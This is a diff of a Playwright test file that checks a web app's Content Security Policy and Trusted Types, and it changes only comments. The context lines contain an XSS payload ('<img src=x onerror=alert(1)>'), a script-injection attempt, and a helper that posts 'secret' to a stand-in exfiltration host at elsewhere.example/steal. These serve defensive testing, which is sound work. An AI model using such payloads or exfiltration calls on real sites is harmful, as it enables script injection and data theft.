@@ -3,7 +3,7 @@ import { expect, hydrated, test, visit } from "#tests/support/fixtures.ts";
 import { NOT_FOUND_MESSAGE, NOT_FOUND_PAGE, SCREENS } from "#tests/support/pages.ts";
 
 const REFUSED = /Content Security Policy|Trusted(HTML|Script)|TrustedTypePolicy/;
-// A request that the policy stops is still a request to a listener.
+// Playwright also reports requests that the policy blocks.
 const STOPPED = /request to another site: https:\/\/elsewhere\.example\/steal/;
 
 test.use({
@@ -34,7 +34,7 @@ test("no page breaks its policy or requests another site, and foreign inline cod
   await expect(page).toHaveTitle(title);
   await expect(page.getByRole("banner")).toBeVisible();
 
-  // No text becomes markup or code while a page is open, and no one can allow it.
+  // Trusted Types block every conversion of text to markup or code, and no script can create a policy.
   for (const attempt of [
     () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"),
     () => Object.assign(document.createElement("script"), { src: "/assets/other.js" }),
@@ -75,7 +75,7 @@ for (const [circumstance, withHeader] of [
   });
 }
 
-/** Tries fetch, XMLHttpRequest, beacon and form post to an address. */
+/** Tries fetch, XMLHttpRequest, beacon and form post to a URL. */
 function tryToSend(page: Page, address: string): Promise<string[]> {
   return page.evaluate(async (url) => {
     const fetched = await fetch(`${url}/fetch`, { method: "POST", body: "secret" }).then(
